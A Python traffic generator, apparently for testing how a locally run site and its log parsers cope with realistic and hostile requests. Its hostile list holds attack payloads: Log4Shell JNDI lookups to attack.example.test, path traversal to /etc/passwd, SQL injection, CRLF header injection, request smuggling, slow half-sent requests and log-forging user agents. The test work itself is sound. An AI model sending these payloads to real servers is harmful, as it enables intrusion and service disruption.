#!/usr/bin/env python3
"""Sends a site realistic traffic: plain requests and, at intervals, hostile ones.

The same seed gives the same requests in the same order of sending; with several connections, the order of the
responses may differ. Prints a line `sent N` for every 500 requests, then the statuses of the responses with their
counts.
"""

import argparse
import collections
import collections.abc
import contextlib
import http.client
import queue
import random
import socket
import struct
import threading
import uuid
from typing import NamedTuple

PATIENCE_S = 15
PROGRESS_EVERY = 500
REQUESTS_PER_CONNECTION = 80

AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.test/)",
    "kube-probe/1.29",
    "curl/7.88.1",
    "python-requests/2.32.3",
]
# Each of these values has broken some log parser.
ODD_AGENTS = [
    None,
    b"",
    b'says "hello" twice',
    b"ends with a backslash\\",
    b"back\\slash \\x22 \\n",
    b'" 200 0 "-" "forged',
    b'x" 500 1 "-" "y" 99.999',
    b"tab\there",
    b"[brackets] ](",
    "snö☃ 日本".encode(),
    b"\xff\xfe\x80 not UTF-8",
    b"%(h)s %s %n {0}",
    b"\x1b[31mred\x1b[0m",
    b"-",
]
REFERERS = [
    "https://www.example.test/",
    "https://shop.example.test/articles/?page=2",
    "https://shop.example.test/",
    "https://www.example.test/search?q=shop",
    "https://www.example.test/",
    'http://quoted.example.test/"q"',
]
WORDS = "amber birch cedar delta ember fjord grove heath inlet jetty knoll ledge marsh north".split()


class Plain(NamedTuple):
    """A request that any HTTP library can send."""

    method: str
    target: str
    headers: dict
    body: bytes | None


class Hostile(NamedTuple):
    """Bytes to send over a separate connection, and what the client does then."""

    sent: bytes
    then: str = "read"  # or "leave" before the response, "reset" the connection, "stay" silent
    source: tuple | None = None  # client address


def main():
    options = parse_arguments()
    todo = queue.SimpleQueue()
    for request in requests(random.Random(options.seed), options.requests, options.hostile_every):
        todo.put(request)
    tally = Tally()
    workers = [
        threading.Thread(target=work, args=(options.port, todo, tally)) for _ in range(options.connections)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    for status, count in sorted(tally.statuses.items(), key=str):
        print(status, count)


def parse_arguments():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True, help="port of the site on 127.0.0.1")
    parser.add_argument("--requests", type=int, default=1000, help="number of requests (default: %(default)s)")
    parser.add_argument("--seed", type=int, default=1, help="seed of the random choices (default: %(default)s)")
    parser.add_argument(
        "--hostile-every",
        type=int,
        default=10,
        help="interval of hostile requests, 0 for none (default: %(default)s)",
    )
    parser.add_argument("--connections", type=int, default=8, help="concurrent connections (default: %(default)s)")
    return parser.parse_args()


class Tally:
    """Counts responses by status, and prints the progress."""

    def __init__(self):
        self.lock = threading.Lock()
        self.statuses = collections.Counter()

    def add(self, status):
        with self.lock:
            self.statuses[status] += 1
            done = self.statuses.total()
            if done % PROGRESS_EVERY == 0:
                print(f"sent {done}", flush=True)


def requests(rng, count, hostile_every):
    """Yields all requests in sequence. Hostile ones take turns, so that each is sent regularly."""
    attacks = hostile()
    for number in range(count):
        if hostile_every and number % hostile_every == hostile_every - 1:
            yield attacks[number // hostile_every % len(attacks)]
        else:
            yield plain(rng)


def plain(rng):
    """Returns a harmless request, as of a visitor, a program or a scanner."""
    rank = min(int(rng.paretovariate(1.1)), 5000)  # few things are popular, most are not
    method, target, body = rng.choices(MIX, WEIGHTS)[0].make(rng, rank)
    headers = {"Host": rng.choice(["localhost", "shop.example.test", "shop.example.test"])}
    agent = rng.choice(ODD_AGENTS) if rng.random() < 0.05 else rng.choice(AGENTS)
    if agent is not None:
        headers["User-Agent"] = agent
    if rng.random() < 0.3:
        headers["Referer"] = rng.choice(REFERERS)
    return Plain(method, target, headers, body)


class Share(NamedTuple):
    """A kind of request and its share of the traffic."""

    weight: float
    make: collections.abc.Callable


def get(weight, target):
    return Share(weight, lambda rng, rank: ("GET", target(rng, rank), None))


def year(rng):
    return 2026 - min(int(rng.expovariate(0.6)), 20)


def slug(rank):
    return f"{WORDS[rank % 14]}-{WORDS[rank // 14 % 14]}-{rank}"


def item(rank):
    return uuid.UUID(int=random.Random(rank).getrandbits(128), version=4)


def query(rng):
    return "+".join(rng.sample(WORDS, rng.randint(1, 3)))


def user_request(rng, rank):
    method = rng.choices(["GET", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"], [8, 2, 2, 1, 1, 1])[0]
    body = b'{"name": "x"}' if method in ("PUT", "PATCH") else None
    return method, f"/api/v{rng.randint(1, 2)}/users/{rank}/", body


MIX = [
    get(14, lambda rng, rank: "/"),
    get(
        12, lambda rng, rank: "/articles/" if rng.random() < 0.7 else f"/articles/?page={rng.randint(2, 40)}"
    ),
    get(6, lambda rng, rank: f"/articles/{year(rng)}/"),
    get(22, lambda rng, rank: f"/articles/{2026 - rank % 9}/{rank % 12 + 1}/{slug(rank)}/"),
    get(2, lambda rng, rank: f"/articles/archive/{year(rng)}/"),
    get(9, lambda rng, rank: f"/items/{item(rank)}/"),
    get(4, lambda rng, rank: f"/users/reader{rank}/"),
    get(5, lambda rng, rank: f"/search/?q={query(rng)}"),
    get(3, lambda rng, rank: f"/files/{WORDS[rank % 14]}/{rank}.pdf"),
    get(5, lambda rng, rank: "/health/"),
    get(5, lambda rng, rank: f"/api/v{rng.randint(1, 2)}/users/"),
    Share(3, lambda rng, rank: ("POST", "/api/v2/users/", b'{"name": "x"}')),
    Share(6, user_request),
    Share(1.5, lambda rng, rank: (rng.choice(["GET", "GET", "POST"]), "/form/", None)),
    Share(1.5, lambda rng, rank: (rng.choice(["HEAD", "OPTIONS"]), rng.choice(["/", "/articles/"]), None)),
    get(0.6, lambda rng, rank: "/slow/"),
    get(0.5, lambda rng, rank: "/large/"),
    get(1.5, lambda rng, rank: "/redirect/"),
    get(0.7, lambda rng, rank: "/unnamed/"),
    get(1, lambda rng, rank: "/favicon.ico"),
    get(1.2, lambda rng, rank: rng.choice(["/articles", "/search", "/users/reader1"])),
    get(1.2, lambda rng, rank: rng.choice(["/missing/", "/nope", "/articles/2031/", "/robots.txt"])),
    Share(1, lambda rng, rank: (rng.choice(["GET", "POST"]), "/boom/", None)),
    get(0.4, lambda rng, rank: "/flaky/articles/"),
    get(0.2, lambda rng, rank: "/down/"),
]
WEIGHTS = [share.weight for share in MIX]


def hostile():
    """Returns hostile requests: first the daily noise of the internet, then attempts to break servers and logs."""

    def request(target, *headers, method=b"GET", version=b"1.1", body=b""):
        lines = [method + b" " + target + b" HTTP/" + version, b"Host: localhost", b"Connection: close"]
        if body:
            lines.append(b"Content-Length: %d" % len(body))
        return b"\r\n".join([*lines, *headers]) + b"\r\n\r\n" + body

    def visit(target, *headers, **other):
        return Hostile(request(target, *headers, **other))

    return [
        Hostile(bytes.fromhex("16030100c8010000c40303") + bytes(range(64))),  # TLS to the plain port
        visit(b"/.env"),
        Hostile(b"GET /articles/ HTTP/1.1\r\nHost: loc", "stay"),
        visit(b"/wp-login.php", b"User-Agent: Mozilla/5.0"),
        Hostile(request(b"/slow/"), "leave"),
        visit(b"/../../etc/passwd"),
        Hostile(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        visit(
            b"/?x=${jndi:ldap://attack.example.test/a}", b"User-Agent: ${jndi:ldap://attack.example.test/b}"
        ),
        Hostile(b"GET /articles/\r\n"),  # HTTP/0.9
        visit(b"/articles/?id=1'%20OR%20'1'='1';--"),
        visit(b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method=b"POST", body=b"<?php"),
        visit(b"http://attack.example.test/judge.php"),  # absolute form, to find open proxies
        Hostile(b"\r\n", "stay"),  # logged as an empty request
        visit(b"/", method=b"PROPFIND"),
        Hostile(b"CONNECT attack.example.test:443 HTTP/1.1\r\nHost: attack.example.test:443\r\n\r\n"),
        Hostile(
            b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00", "stay"
        ),  # RDP
        Hostile(b"\x00\x00\x00\x85\xffSMBr\x00\x00\x00\x00\x18S\xc8\n\n"),
        visit(b"/", method=b"TRACE"),
        visit(b"*", method=b"OPTIONS"),
        visit(b"/", method=b"get"),
        visit(b"/", method=b'GE"T'),
        visit(b"/", method=b"FROB-NICATE"),
        visit(b"/articles/1 OR 1=1/"),
        visit(b" /articles/ "),
        visit(b'/users/a"b"c/'),
        visit(b"/users/a\\x22b\\/"),
        visit(b"/users/a\x01b/"),
        visit(b"/users/a\tb/"),
        visit(b"/users/\xff\xfe/"),
        visit("/users/日本語/".encode()),
        visit(b"/users/%ff%c0%af/"),
        visit(b"/users/a%00b/"),
        visit(b"/users/a%0d%0aSet-Cookie:x=1/"),
        visit(b"/users/a%22%20200%201%20%22b/"),
        visit(b"/users/%zz/"),
        visit(b"/%2e%2e/%2e%2e/etc/passwd"),
        visit(b"/files/" + b"a" * 4200),  # longer than gunicorn accepts
        visit(b"/files/" + b"a" * 9000),  # longer than nginx accepts
        visit(b"/", b"X-Long: " + b"h" * 9000),
        visit(b"/", b"Bad Header: 1"),
        visit(b"/", b"Host: twice"),
        visit(b"/", b"Transfer-Encoding: chunked", b"Content-Length: 4", method=b"POST"),
        visit(b"/", b"Content-Length: -5", method=b"POST"),
        visit(b"/", b"Content-Length: 99999999", method=b"POST"),
        visit(b"/", version=b"1.2"),
        visit(b"/", version=b"9.9"),
        Hostile(b"GET /articles/ HTTP/1.0\r\n\r\n"),
        Hostile(b"GET / HTTP/1.1\r\n\r\n"),
        Hostile(b"GET / HTTP/1.1\nHost: localhost\nConnection: close\n\n"),
        Hostile(b"GET /health/ HTTP/1.1\r\nHost: localhost\r\n\r\n" * 3 + request(b"/articles/")),
        Hostile(
            b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "stay"
        ),
        Hostile(
            b"POST /api/v1/users/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\nhalf", "leave"
        ),
        Hostile(request(b"/slow/"), "reset"),
        visit(b"/impatient/slow/"),  # 504
        visit(b"/closed/"),  # 444
    ]


def work(port, todo, tally):
    """Sends queued requests until none is left, plain ones over a persistent connection."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE_S)
    sent = 0
    while True:
        try:
            request = todo.get_nowait()
        except queue.Empty:
            break
        if isinstance(request, Hostile):
            tally.add(attack(port, request))
            continue
        tally.add(exchange(connection, request))
        sent += 1
        if sent % REQUESTS_PER_CONNECTION == 0:
            connection.close()
    connection.close()


def exchange(connection, request):
    """Sends a plain request and returns the status, or the name of the error."""
    try:
        connection.request(request.method, request.target, request.body, request.headers)
        response = connection.getresponse()
        response.read()
        return response.status
    except (OSError, http.client.HTTPException) as error:
        connection.close()
        return type(error).__name__


def attack(port, request):
    """Sends a hostile request and returns the status, or what happened instead."""
    with socket.create_connection(("127.0.0.1", port), PATIENCE_S, request.source) as connection:
        answer = b""
        with contextlib.suppress(OSError):
            connection.sendall(request.sent)
            if request.then in ("leave", "reset"):
                connection.settimeout(0.05)
            while part := connection.recv(65536):
                answer += part
        if request.then == "reset":
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if request.then in ("leave", "reset"):
            return "left"
    words = answer[:20].split(b" ")
    if words[0].startswith(b"HTTP/") and len(words) > 1 and words[1].isdigit():
        return int(words[1])
    return "no status" if answer else "no answer"


if __name__ == "__main__":
    main()
